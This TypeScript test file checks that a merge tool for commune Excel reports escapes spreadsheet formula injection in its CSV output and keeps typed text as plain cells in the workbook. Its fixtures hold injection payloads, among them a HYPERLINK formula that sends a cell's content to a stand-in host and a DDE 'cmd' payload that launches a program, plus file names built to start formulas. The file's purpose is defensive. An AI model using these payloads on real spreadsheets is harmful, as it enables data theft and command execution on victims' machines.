/**
 * `--csv FILE` writes the tidy table; text from the field that a spreadsheet could take for a formula
 * (`=`, `+`, `-`, `@`, after leading spaces, or on a later line) is escaped with a leading apostrophe in
 * the CSV, and in the consolidated workbook no input text ever becomes a formula.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { escapeFormula } from '../../pipeline/write/csv';
import type { CliResult } from '../cli/capture';
import {
  cellsOf,
  COMMUNES,
  dataTable,
  formulaOf,
  formulas,
  isWriterFormula,
  mergeCli,
  pointsPerReport,
  readWorkbook,
  shown,
  TIDY_HEADER,
  tempDir,
  writeCommune,
  type Fill,
} from '../helpers/merge-fixtures';

const tmp = tempDir('merge-inject');
afterAll(() => tmp.remove());

/** Text typed by a coordinator (or a file name chosen by one) that starts a formula somewhere. */
const DANGEROUS = {
  equals: '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez ici")',
  plus: '+223 76 00 00 00',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  spaces: "   =cmd|' /C calc'!A0",
  newline: 'Activité reportée\n=1+1',
} as const;

/** Eight files (four communes × two periods), each with dangerous text somewhere, six with a dangerous name. */
const FILES: { code: string; period: string; name: string; fill: Fill }[] = [
  {
    code: 'GNZ',
    period: '2023',
    name: '=1+1 GNZ.xlsx',
    fill: { 'identification:filledBy': DANGEROUS.equals, 'indicators:R1.1.1:comment': DANGEROUS.equals },
  },
  {
    code: 'SAL',
    period: '2023',
    name: '+SAL 2023.xlsx',
    fill: { 'identification:filledBy': DANGEROUS.plus, 'indicators:R2.2.1:comment': DANGEROUS.plus },
  },
  {
    code: 'ANS',
    period: '2023',
    name: '-ANS 2023.xlsx',
    fill: { 'identification:filledBy': DANGEROUS.minus, 'budget:BUD-1:comment': DANGEROUS.minus },
  },
  {
    code: 'BAR',
    period: '2023',
    name: '@BAR 2023.xlsx',
    fill: { 'identification:filledBy': DANGEROUS.at, 'indicators:R4.3.1:comment': DANGEROUS.at },
  },
  {
    code: 'GNZ',
    period: '2024',
    name: '   =GNZ 2024.xlsx',
    fill: { 'identification:filledBy': DANGEROUS.spaces, 'indicators:R3.3.1:comment': DANGEROUS.spaces },
  },
  {
    code: 'SAL',
    period: '2024',
    name: 'SAL 2024\n=1+1.xlsx',
    fill: { 'identification:filledBy': DANGEROUS.newline, 'budget:BUD-2:comment': DANGEROUS.newline },
  },
  { code: 'ANS', period: '2024', name: 'ANS 2024 Ansongo-Bara.xlsx', fill: {} },
  { code: 'BAR', period: '2024', name: 'BAR 2024.xlsx', fill: {} },
];

const input = path.join(tmp.dir, 'in');
const output = path.join(tmp.dir, 'consolidation.xlsx');
const csvFile = path.join(tmp.dir, 'export', 'donnees.csv');
let cli: CliResult;
let workbook: ExcelJS.Workbook;
let csv: string;
let rows: string[][];

beforeAll(async () => {
  for (const f of FILES) await writeCommune(input, f.code, { period: f.period, name: f.name, fill: f.fill });
  cli = await mergeCli(['--input', input, '--output', output, '--csv', csvFile]);
  workbook = await readWorkbook(output);
  csv = readFileSync(csvFile, 'utf8');
  rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';', skipEmptyLines: true }).data;
});

test('exit 0; the summary names the CSV and the workbook', () => {
  expect(cli.stderr).toBe('');
  expect(cli.code).toBe(0);
  expect(cli.stdout).toContain(`Table CSV : ${csvFile}`);
  expect(cli.stdout).toContain('8 fichier(s) : 8 accepté(s)');
});

describe('--csv: the tidy table', () => {
  test('UTF-8 with BOM, `;`, CRLF, the Données header, one line per number', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toBe(TIDY_HEADER.map((h) => `"${h}"`).join(';'));
    expect(csv.replace(/\r\n/g, '').includes('\n')).toBe(true); // the one newline inside a quoted file name
    expect(rows[0]).toEqual(TIDY_HEADER);
    expect(rows).toHaveLength(1 + FILES.length * pointsPerReport());
  });

  test('the same rows as Données, numbers as bare numbers', () => {
    const data = dataTable(workbook);
    expect(data).toHaveLength(rows.length - 1);
    rows.slice(1).forEach((r, i) => {
      const d = data[i]!;
      const unescape = (v: string) => (v.startsWith("'") ? v.slice(1) : v);
      expect(r.slice(0, 7).map(unescape)).toEqual(TIDY_HEADER.slice(0, 7).map((h) => String(d[h])));
      expect([r[7], r[8]]).toEqual([d['Prévu'] === null ? '' : String(d['Prévu']), String(d['Réalisé'])]);
      expect(unescape(r[9]!)).toBe(d['Source']);
    });
    // Numbers are written unquoted, text quoted.
    expect(csv).toMatch(/"Total";25;25;"'=1\+1 GNZ\.xlsx";"2023-01-01";"2023-12-31";25;;\r\n/);
  });

  test.each(FILES.map((f) => [JSON.stringify(f.name), f.name] as const))(
    'file name %s in Source: escaped only when it starts a formula',
    (_label, name) => {
      const sources = new Set(rows.slice(1).map((r) => r[9]!));
      const dangerous = name.split('\n').some((line) => /^[=+\-@]/.test(line.trimStart()));
      expect(sources.has(dangerous ? `'${name}` : name)).toBe(true);
      expect(sources.has(dangerous ? name : `'${name}`)).toBe(false);
    },
  );

  test('no field of the CSV starts a formula on any of its lines', () => {
    for (const r of rows.slice(1))
      for (const v of r) {
        if (/^-?\d+$/.test(v)) continue; // a number
        for (const line of v.split(/\r?\n/))
          if (!v.startsWith("'")) expect([v, /^[=+\-@\t\r]/.test(line.trimStart())]).toEqual([v, false]);
      }
  });
});

describe('escapeFormula (the CSV writer’s rule)', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+223 76 00 00 00', "'+223 76 00 00 00"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['   =1+1', "'   =1+1"],
    ['\t=1+1', "'\t=1+1"],
    ['Activité reportée\n=1+1', "'Activité reportée\n=1+1"],
    ['ligne\r\n  +1', "'ligne\r\n  +1"],
    ["Insécurité sur l'axe Ansongo-Bara", "Insécurité sur l'axe Ansongo-Bara"],
    ['a = b', 'a = b'],
    ['1 250', '1 250'],
  ])('%j → %j', (text, escaped) => {
    expect(escapeFormula(text)).toBe(escaped);
  });

  test.each([[25], [-5], [0], [null]])('%p stays as it is', (v) => {
    expect(escapeFormula(v)).toBe(v);
  });
});

describe('the xlsx output: input text is never a formula', () => {
  test('every formula of every sheet is one the writer produces', () => {
    const all = formulas(workbook);
    expect(all.length).toBeGreaterThan(100);
    const foreign = all.filter((f) => !isWriterFormula(f.formula));
    expect(foreign).toEqual([]);
  });

  test('the checker itself refuses input text and accepts the writer’s formulas', () => {
    // (« +223 76 00 00 00 » and « -2+3 » are harmless arithmetic: the ones with words are checked.)
    for (const text of [DANGEROUS.equals, DANGEROUS.at, DANGEROUS.spaces, DANGEROUS.newline])
      expect([text, isWriterFormula(text.trim().replace(/^[=+]/, ''))]).toEqual([text, false]);
    expect(isWriterFormula('IF(COUNT(H6:H9)=0,"non reçu",SUM(H6:H9))')).toBe(true);
    expect(isWriterFormula("IFERROR(AVERAGE('Prévu vs Réalisé'!I6,'Prévu vs Réalisé'!I11),\"non reçu\")")).toBe(true);
    expect(isWriterFormula('HYPERLINK("http://x","y")')).toBe(false);
    expect(isWriterFormula('SUM(A1)&"x"')).toBe(false);
  });

  // The reader trims what a coordinator typed (leading spaces included): the rest is kept as it is.
  test.each(Object.entries(DANGEROUS))('%s: the text is kept, as plain text, wherever it is shown', (_kind, typed) => {
    const text = typed.trim();
    const holders: string[] = [];
    for (const ws of workbook.worksheets)
      for (const cell of cellsOf(ws)) {
        const v = shown(cell);
        if (typeof v === 'string' && v.includes(text)) {
          expect([`${ws.name}!${cell.address}`, formulaOf(cell)]).toEqual([`${ws.name}!${cell.address}`, null]);
          holders.push(ws.name);
        }
      }
    // Rempli par in Sources, and the comment in Prévu vs Réalisé or Budget.
    expect(holders).toContain('Sources');
    expect(holders.some((h) => h === 'Prévu vs Réalisé' || h === 'Budget')).toBe(true);
  });

  test('dangerous file names are plain text in Sources and Données', () => {
    const names = new Set<string>();
    for (const name of ['Sources', 'Données'])
      for (const cell of cellsOf(workbook.getWorksheet(name)!))
        if (formulaOf(cell) === null && typeof cell.value === 'string') names.add(cell.value);
    for (const f of FILES) expect([f.name, names.has(f.name)]).toEqual([f.name, true]);
  });

  test('every commune and both periods were merged', () => {
    const data = dataTable(workbook);
    expect(new Set(data.map((r) => r['Période']))).toEqual(new Set(['2023', '2024']));
    expect(new Set(data.map((r) => r['Commune'])).size).toBe(COMMUNES.length);
  });
});
